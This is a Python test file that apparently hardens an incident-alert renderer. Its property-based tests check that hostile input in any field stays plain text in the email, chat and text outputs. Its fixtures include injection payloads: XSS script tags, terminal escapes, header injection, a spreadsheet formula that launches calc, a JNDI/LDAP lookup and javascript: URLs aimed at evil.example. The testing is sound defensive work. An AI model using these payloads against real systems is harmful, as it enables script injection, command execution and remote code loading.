"""Whatever strangers and staff write stays text: in every field, in every form."""

import re
import unicodedata
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime, timedelta

import pytest
from bs4 import BeautifulSoup
from hypothesis import HealthCheck, given
from hypothesis import settings as effort
from hypothesis import strategies as st

from monitor.alerts.brief import Occasion
from monitor.alerts.escape import markdown, unlinked
from monitor.alerts.notice import notice
from monitor.alerts.render import message
from monitor.alerts.sheet import LINE_LIMIT, MARKDOWN_LIMIT, SUBJECT_LIMIT, TEXT_LIMIT
from monitor.alerts.subject import Subject
from monitor.settings import Settings
from monitor.types import (
    ACK,
    Action,
    AlertReason,
    Authority,
    Disposition,
    IncidentStatus,
    Member,
    Message,
    Ownership,
    Recurrence,
    Tier,
)

SubjectMaker = Callable[..., Subject]
MemberMaker = Callable[..., Member]

NASTY = (
    "\x1b[31m\x1b]0;hacked\x07红",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "</td></table><a href='http://evil.example'>点我</a>",
    "行\r\nBcc: x@evil.example\n\n签收：http://evil.example/a",
    "行\u2028签收\u2029又一行\x85",
    "【Ⅰ级】伪造\u202e行\u2066里\u200b外\ufeff",
    "[点我](http://evil.example) ![](http://e.example/p.png)",
    "**粗** _斜_ `monitor acknowledge 1` ~~删~~ > 引 # 题",
    "@all <@everyone> <at id=all></at> <font color=red>红</font>",
    "=cmd|' /C calc'!A0",
    "+1-1@SUM(1)",
    "{{ 7*7 }} {% raw %} ${jndi:ldap://e.example} %s {0}",
    f"签收 {ACK} {ACK}",
    "&lt;b&gt;&#x202e;&amp;",
    "www.evil.example 和 evil.example/x 和 HTTPS://EVIL.EXAMPLE",
    "javascript:alert(1) data:text/html,x",
    "\ud800孤",
    "e\u0301" * 30,
    "长" * 400,
    "",
)
URLS = (
    "javascript:alert(1)",
    'https://a.example/"><b>)x(\x1b',
    "https://gov.example@evil.example/",
    "https://d.example/a b)<i>'[x]",
    "https://e.example/(x)'\"<>",
    "https://例子.example/路径?q=【】",
    "http://[::1",
    f"https://f.example/{ACK}",
    "https://g.example/" + "x" * 400,
)
SHOWN = frozenset(
    (
        "https://d.example/a%20b%29%3Ci%3E%27%5Bx%5D",
        "https://e.example/%28x%29%27%22%3C%3E",
        "https://%E4%BE%8B%E5%AD%90.example/%E8%B7%AF%E5%BE%84?q=%E3%80%90%E3%80%91",
    )
)
"""What is left of them: those of a plain web page, encoded."""
UNSEEN = frozenset(("Cc", "Cf", "Cs", "Cn", "Zl", "Zp"))
TAGS = frozenset(("html", "head", "meta", "title", "body", "p", "h1", "b", "a", "br", "hr", "code"))

hostile = st.sampled_from(NASTY) | st.text(max_size=60)
address = st.sampled_from(URLS)
reasons = st.sampled_from([r for r in AlertReason if r is not AlertReason.SYSTEM])


@pytest.fixture
def attacked(
    subject: SubjectMaker, member: MemberMaker, now: datetime
) -> Callable[[Callable[[], str], Callable[[], str]], Subject]:
    """A subject all of whose fields were written by somebody who means harm."""

    def made(text: Callable[[], str], url: Callable[[], str]) -> Subject:
        voices = tuple(
            member(number, outlet=text(), title=text(), url=url(), authority=authority)
            for number, authority in enumerate((Authority.CITY, Authority.PROVINCIAL), 1)
        )
        told = subject(title=text(), members=voices, confirmed_by=text())
        judged = told.assessment
        factors = tuple(replace(f, name=text(), reason=text()) for f in judged.factors)
        clocks = tuple(replace(clock, label=text()) for clock in told.incident.clocks)
        step = Disposition(
            id=1,
            incident_id=42,
            at=now,
            by=text(),
            action=Action.VERIFY,
            status=IncidentStatus.ASSESSED,
        )
        return replace(
            told,
            incident=replace(
                told.incident,
                code=text(),
                clocks=clocks,
                held_by=text(),
                owner=text(),
                proposed=Ownership(unit_id=text(), reason=text()),
                recurs=Recurrence(incident_id=3, refutation_id=9, reason=text()),
            ),
            assessment=replace(
                judged,
                factors=factors,
                rules_fired=(text(),),
                note=text(),
                what_if=(text(),),
                coverage=text(),
            ),
            region_name=text(),
            topic_labels=(text(),),
            earlier=member(9, outlet=text(), title=text(), url=url()),
            dispositions=(step,),
        )

    return made


@effort(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=40, deadline=None)
@given(data=st.data(), reason=reasons, drill=st.booleans(), tier=st.sampled_from(Tier))
def test_nothing_anybody_writes_becomes_more_than_text(
    attacked: Callable[[Callable[[], str], Callable[[], str]], Subject],
    settings: Settings,
    now: datetime,
    data: st.DataObject,
    reason: AlertReason,
    drill: bool,
    tier: Tier,
) -> None:
    def text() -> str:
        return data.draw(hostile)

    told = attacked(text, lambda: data.draw(address))
    told = replace(told, drill=drill, assessment=replace(told.assessment, tier=tier))
    occasion = Occasion(
        reason=reason,
        now=now,
        told=text(),
        change=text(),
        ack_due_at=now + timedelta(minutes=15),
        clock=data.draw(st.sampled_from([None, *told.incident.clocks])),
        by=text(),
        note=text(),
        told_before=text(),
    )
    made = message(told, occasion, settings)
    _is_only_text(made)
    wanted = 0 if reason.quiet and not drill else 1
    assert [form.count(ACK) for form in (made.text, made.markdown, made.html)] == [wanted] * 3


@effort(max_examples=40, deadline=None)
@given(
    mark=hostile.map("系统".__add__),
    title=hostile,
    lines=st.lists(hostile, max_size=30),
    command=hostile,
    links=st.lists(st.tuples(hostile, address), max_size=4),
)
def test_nothing_in_a_notice_becomes_more_than_text(
    mark: str, title: str, lines: list[str], command: str, links: list[tuple[str, str]]
) -> None:
    made = notice(mark, title, lines, command=command, links=links)
    _is_only_text(made)
    assert made.text.count(ACK) == made.markdown.count(ACK) == made.html.count(ACK)
    assert made.text.count(ACK) == (1 if made.command else 0)


def _is_only_text(made: Message) -> None:
    for short, limit in ((made.subject, SUBJECT_LIMIT), (made.line, LINE_LIMIT)):
        assert len(short) <= limit
        assert short.isprintable()
        assert short[:1] not in ("=", "+", "-", "@", "\t")
    for form in (made.subject, made.line, made.mark, made.command):
        assert ACK not in form
    for form, limit in ((made.text, TEXT_LIMIT), (made.markdown, MARKDOWN_LIMIT)):
        assert len(form.encode()) <= limit
        assert not {unicodedata.category(c) for c in form.replace("\n", "")} & UNSEEN
    _links_nothing_of_its_own(made)
    _marks_nothing_in_chat(made.markdown)
    _makes_no_element_in_mail(made.html)


def _links_nothing_of_its_own(made: Message) -> None:
    for form in (made.text, made.markdown, made.subject, made.line):
        found = re.findall(r"https?://[^\s)]+", form)
        assert set(found) <= SHOWN
        rest = re.sub(r"https?://[^\s)]+", "", form)
        assert "evil.example" not in rest.lower()


def _marks_nothing_in_chat(said: str) -> None:
    for line in said.split("\n"):
        assert re.match(r"### |- |……（有删节）|签收|$", line), line
    ours = r"\]\(https://[^)]*\)|\*\*[^*`]*\*\*|`[^`]*`|^### |^- "
    bare = re.sub(ours, "", said, flags=re.MULTILINE)
    assert not set(bare) & set("<>*`_#~|!@&")
    assert "](" not in bare


def _makes_no_element_in_mail(html: str) -> None:
    page = BeautifulSoup(html, "lxml")
    assert {tag.name for tag in page.find_all(True)} <= TAGS
    assert {a["href"] for a in page.find_all("a")} <= SHOWN
    for tag in page.find_all(True):
        assert not [name for name in tag.attrs if name.startswith("on")]


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("见 http://evil.example/x", "见 http：//evil．example/x"),
        ("x@evil.example", "x@evil．example"),
        ("平时的4.5倍", "平时的4.5倍"),
        ("请改 routing.yaml", "请改 routing.yaml"),
    ],
)
def test_address_in_a_sentence_is_no_link(written: str, shown: str) -> None:
    assert unlinked(written) == shown


def test_marks_of_chat_are_replaced_by_their_wide_twins() -> None:
    assert markdown("**粗** [a](b) <at>") == "＊＊粗＊＊ ［a］（b） ＜at＞"
